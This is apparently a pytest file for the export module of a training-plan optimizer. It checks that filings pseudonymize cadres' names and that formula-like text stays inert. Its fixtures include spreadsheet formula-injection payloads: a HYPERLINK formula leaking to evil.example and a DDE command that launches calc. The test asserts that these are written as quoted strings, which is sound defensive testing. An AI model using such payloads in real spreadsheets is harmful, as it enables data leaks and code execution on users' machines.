"""Privacy of the filing: pseudonyms in every export, inert formula-like text, ids (not names) in warnings."""

from __future__ import annotations

import warnings
import zipfile
from dataclasses import replace
from pathlib import Path

import pytest
from conftest import write_scenario
from openpyxl import load_workbook

from models import Plan, Scenario, Shortfall, build_plan, evaluate, load_scenario, owed_obligations
from optimizer.reports import Pseudonyms, fonts, pseudonymize, write_exports, write_workbook
from optimizer.reports.privacy import AMBIGUOUS, KEY_VARIABLE, name_scrubber
from optimizer.reports.xlsx import cell

YEAR = 2020
HYPERLINK = '=HYPERLINK("http://evil.example/?leak","点此查看")'
NAMES = {
    "C1": "欧阳明",
    "C2": "欧阳",  # a prefix of C1's name: the longer name must be replaced whole
    "C3": "司马懿",
    "C4": "王芳",
    "C5": "王芳",  # two cadres share a name
    "C6": "李堃",
}


def _tables() -> dict[str, list[dict[str, str]]]:
    cadres = [
        {
            "cadre_id": cid,
            "name": name,
            "unit_id": "U2" if k % 2 else "U1",
            "rank": "division" if k == 0 else "staff",
            "category": "leadership" if k < 2 else "civil_servant",
            "top_leader": "true" if k == 0 else "false",
            "phone": f"1390000000{k}",
        }
        for k, (cid, name) in enumerate(NAMES.items())
    ]
    return {
        "units.csv": [
            {"unit_id": "U1", "name": "江州市测试局", "parent_id": ""},
            {"unit_id": "U2", "name": "+外联办", "parent_id": "U1"},
        ],
        "cadres.csv": cadres,
        "courses.csv": [
            {"course_id": "K1", "title": HYPERLINK, "theme": "theory", "systematic": "false"},
            {"course_id": "K2", "title": "党性教育专题班", "theme": "party_spirit", "systematic": "true"},
            {"course_id": "K9", "title": "未开班课程", "theme": "knowledge", "systematic": "false"},
        ],
        "sessions.csv": [
            {
                "session_id": "S1",
                "course_id": "K1",
                "institution_id": "I1",
                "organiser": "@SUM(1+1)",
                "start": "2020-03-02",
                "end": "2020-03-06",
                "seats": "10",
            },
            {
                "session_id": "S2",
                "course_id": "K2",
                "institution_id": "I1",
                "organiser": "-city_org",
                "start": "2020-05-11",
                "end": "2020-05-15",
                "seats": "10",
            },
        ],
        "summons.csv": [
            {
                "cadre_id": "C3",
                "course_id": "K9",
                "organiser": "city_org",
                "reason": "市委点名:司马懿、欧阳明须参加",
            },
            {"cadre_id": "C4", "course_id": "K9", "organiser": "city_org", "reason": "王芳同志补训"},
        ],
    }


@pytest.fixture(scope="module")
def scenario_and_plan(tmp_path_factory) -> tuple[Scenario, Plan]:
    scenario = load_scenario(write_scenario(tmp_path_factory.mktemp("privacy") / "scenario", _tables()))
    obligations = owed_obligations(scenario, YEAR)
    plan = build_plan(scenario, obligations, [(c, g) for c in NAMES for g in ("S1", "S2")])
    # Shortfalls carry the obligations' own reasons, which quote the summons reasons (free text with names).
    shortfalls = tuple(
        Shortfall(
            o.obligation.rule.value,
            o.obligation.cadre_id,
            o.obligation.unit_id,
            o.obligation.required,
            o.planned,
            o.shortfall,
            o.obligation.reason,
        )
        for o in evaluate(scenario, obligations, plan)
        if not o.met
    )
    tiers = [
        {"tier": t, "name": "", "owed": 4, "met": 3, "bound": 4, "bound_source": "cp-sat", "gap": 0.25}
        for t in (1, 2, 3, 4, 5)
    ]
    summary = {"status": "feasible", "objective": -12.5, "bound": -20.0, "gap": 0.6, "solve_seconds": 1.0}
    summary |= {"tiers": tiers, "gap_tier": 1}
    return scenario, replace(plan, shortfalls=shortfalls, summary=summary)


def _export_texts(folder: Path) -> dict[str, str]:
    """Every text an export holds: each XML part of the workbook, the reports, the page and the SVG charts."""
    texts = {}
    with zipfile.ZipFile(folder / "filing.xlsx") as book:
        for part in book.namelist():
            texts[f"filing.xlsx/{part}"] = book.read(part).decode("utf-8")
    pages = [folder / "report.md", folder / "report.html", folder / "plan.html"]
    for path in [*pages, *sorted((folder / "charts").glob("*.svg"))]:
        texts[path.relative_to(folder).as_posix()] = path.read_text(encoding="utf-8")
    return texts


@pytest.fixture(scope="module")
def plain_and_pseudonymized(scenario_and_plan, tmp_path_factory) -> tuple[dict[str, str], dict[str, str]]:
    scenario, plan = scenario_and_plan
    plain, hidden = tmp_path_factory.mktemp("plain"), tmp_path_factory.mktemp("hidden")
    # SVG only: its text is searchable (matplotlib writes each text as a comment beside the glyph paths).
    write_exports(scenario, plan, plain, formats=("svg",))
    write_exports(scenario, plan, hidden, formats=("svg",), pseudonymize=True)
    return _export_texts(plain), _export_texts(hidden)


def test_the_plain_filing_shows_the_names(plain_and_pseudonymized):
    """The control: the search below finds names where they are (workbook, report, timeline SVG)."""
    plain, _ = plain_and_pseudonymized
    everything = "\n".join(plain.values())
    assert all(name in everything for name in NAMES.values())
    assert "司马懿" in plain["report.md"]  # the shortfall table names the cadre
    assert any("欧阳明" in text for part, text in plain.items() if part.startswith("charts/timeline-"))


def test_a_pseudonymized_filing_holds_no_real_name(scenario_and_plan, plain_and_pseudonymized):
    scenario, _ = scenario_and_plan
    _, hidden = plain_and_pseudonymized
    leaks = {(name, part) for part, text in hidden.items() for name in NAMES.values() if name in text}
    assert leaks == set()
    assert not any("1390000000" in text for text in hidden.values())  # extra columns are dropped
    pseudonyms = Pseudonyms()
    shown = "\n".join(hidden.values())
    assert all(pseudonyms(cid) in shown for cid in NAMES)
    assert all(cid in shown for cid in NAMES)  # ids stay: the plan contract needs them
    assert "假名" in hidden["report.md"]  # the filing says its names are pseudonyms
    assert any(
        "假名" in text for part, text in hidden.items() if part.startswith("filing.xlsx/xl/worksheets/")
    )


def test_names_inside_scenario_text_are_replaced_whole(scenario_and_plan):
    scenario, plan = scenario_and_plan
    shown, shown_plan = pseudonymize(scenario, plan)
    alias = Pseudonyms()
    reasons = {s.cadre_id: s.reason for s in shown.summons}
    assert reasons["C3"] == f"市委点名:{alias('C3')}、{alias('C1')}须参加"
    assert reasons["C4"] == f"{AMBIGUOUS}同志补训"  # which 王芳 is meant cannot be told
    assert {c.name for c in shown.cadres} == {alias(cid) for cid in NAMES}
    assert all(c.extra == () for c in shown.cadres)
    assert any(alias("C3") in s.text(lang) for s in shown_plan.shortfalls for lang in ("zh", "en"))
    assert shown_plan.assignments == plan.assignments and shown_plan.sessions == plan.sessions
    scrub = name_scrubber({"A": "欧阳", "B": "欧阳明"}, {"A": "P-A", "B": "P-B"})
    assert scrub("欧阳明和欧阳") == "P-B和P-A"


def test_a_cadre_keeps_its_pseudonym_across_runs_and_the_key_decides_it(monkeypatch):
    monkeypatch.delenv(KEY_VARIABLE, raising=False)
    pseudonyms = Pseudonyms.from_environment()
    # Pinned values: last year's filing and this year's must show a cadre alike, whatever the run or version.
    assert (pseudonyms("C3"), pseudonyms("C000001")) == ("P-UMSHNYEZ", "P-QJUFFCF4")
    assert len({pseudonyms(f"C{k:06d}") for k in range(5000)}) == 5000
    monkeypatch.setenv(KEY_VARIABLE, "江州市委组织部的密钥")
    assert Pseudonyms.from_environment()("C3") != "P-UMSHNYEZ"


def test_two_pseudonymized_workbooks_name_each_cadre_alike(scenario_and_plan, tmp_path):
    scenario, plan = scenario_and_plan
    names = []
    for run in ("a", "b"):
        shown, shown_plan = pseudonymize(scenario, plan)
        sheet = load_workbook(write_workbook(shown, shown_plan, tmp_path / f"{run}.xlsx", lang="en"))[
            "Assignments"
        ]
        header = [c.value for c in sheet[1]]
        rows = sheet.iter_rows(min_row=2, values_only=True)
        names.append(sorted((r[header.index("cadre id")], r[header.index("name")]) for r in rows))
    assert names[0] == names[1] and len(names[0]) == len(plan.assignments)


def test_formula_like_scenario_text_is_inert_and_numbers_stay_numbers(scenario_and_plan, tmp_path):
    scenario, plan = scenario_and_plan
    # Tabs and carriage returns cannot come through the CSV loader (cells are stripped): set them here.
    courses = tuple(replace(c, title="\t=1+2") if c.course_id == "K2" else c for c in scenario.courses)
    units = tuple(replace(u, name="\r=cmd|' /C calc'!A0") if u.unit_id == "U1" else u for u in scenario.units)
    path = write_workbook(scenario.replace(courses=courses, units=units), plan, tmp_path / "f.xlsx")
    with zipfile.ZipFile(path) as book:
        sheets = [book.read(p).decode("utf-8") for p in book.namelist() if p.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in xml or "<f " in xml for xml in sheets)  # no formula anywhere
    book = load_workbook(path)
    texts = {
        cell.value: cell
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    }
    for risky in (HYPERLINK, "@SUM(1+1)", "-city_org", "+外联办", "\t=1+2", "\r=cmd|' /C calc'!A0"):
        risky = risky.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert risky in texts, risky
        assert texts[risky].data_type == "s" and texts[risky].quotePrefix, risky
    summary = book.worksheets[0]
    facts = {summary.cell(r, 1).value: summary.cell(r, 2) for r in range(1, summary.max_row + 1)}
    cost = facts["培训经费(元)"]
    assert cost.value == sum(scenario.session_by_id[a.session_id].cost_per_head for a in plan.assignments) > 0
    assert cost.data_type == "n" and not cost.quotePrefix
    tier = next(r for r in range(1, summary.max_row + 1) if summary.cell(r, 1).value == 1)
    figures = [summary.cell(tier, c) for c in range(1, 7)]  # tier, what, owed, met, bound, gap
    assert [c.value for c in figures] == [1, "点名调训和逾期补训", 4, 3, 4, 0.25]
    assert all(c.data_type == "n" and not c.quotePrefix for c in figures if c.column != 2)
    # A negative figure starts with "-", as a formula does: written as a number it stays one.
    negative = cell(book.worksheets[0], -12.5)
    assert negative.data_type == "n" and not negative.quotePrefix


def test_the_font_warning_names_the_id_not_the_name(scenario_and_plan):
    scenario, _ = scenario_and_plan
    latin = fonts.FontChoice(("DejaVu Sans",), (), frozenset(range(32, 0x250)))
    partial = fonts.FontChoice(
        ("Some CJK",), (Path("x.otf"),), frozenset(range(32, 0x250)) | {ord("欧"), ord("阳")}
    )
    messages = []
    draws = (
        (latin, lambda names: names.check_scenario(scenario)),
        (partial, lambda names: names("欧阳明", "C1")),
    )
    for choice, draw in draws:
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            draw(fonts.Names(choice))
        messages += [str(w.message) for w in caught if issubclass(w.category, fonts.NamesAsIdsWarning)]
    assert len(messages) == 2
    assert not any(name in message for name in NAMES.values() for message in messages)
    assert "C1" in messages[1] and "'明'" in messages[1]  # the id, and the one character no font draws


def test_plan_annual_pseudonymize_leaves_no_name_in_the_plan_folder(tmp_path, monkeypatch):
    from click.testing import CliRunner

    import optimizer.reports
    from optimizer.cli import annual as cli

    real = optimizer.reports.write_exports

    def svg_only(*args, **kwargs):  # the same exports, drawn in one format to keep the test fast
        return real(*args, **{**kwargs, "formats": ("svg",)})

    monkeypatch.setattr(cli, "write_exports", svg_only)
    scenario = write_scenario(tmp_path / "scenario", _tables())
    args = [
        "--year",
        str(YEAR),
        "--scenario",
        str(scenario),
        "--out",
        str(tmp_path / "plan"),
        "--time-limit",
        "5",
        "--quiet",
        "--pseudonymize",
    ]
    result = CliRunner().invoke(cli.plan_annual, args)
    assert result.exit_code == 0, result.output
    folder = tmp_path / "plan"
    texts = _export_texts(folder)
    texts.update({p.name: p.read_text(encoding="utf-8") for p in folder.glob("*.csv")})
    texts["summary.json"] = (folder / "summary.json").read_text(encoding="utf-8")
    assert {name for name in NAMES.values() if any(name in text for text in texts.values())} == set()
    assert Pseudonyms()("C1") in texts["report.md"] + "".join(
        t for p, t in texts.items() if p.startswith("filing")
    )
    assert not any(name in result.output for name in NAMES.values())
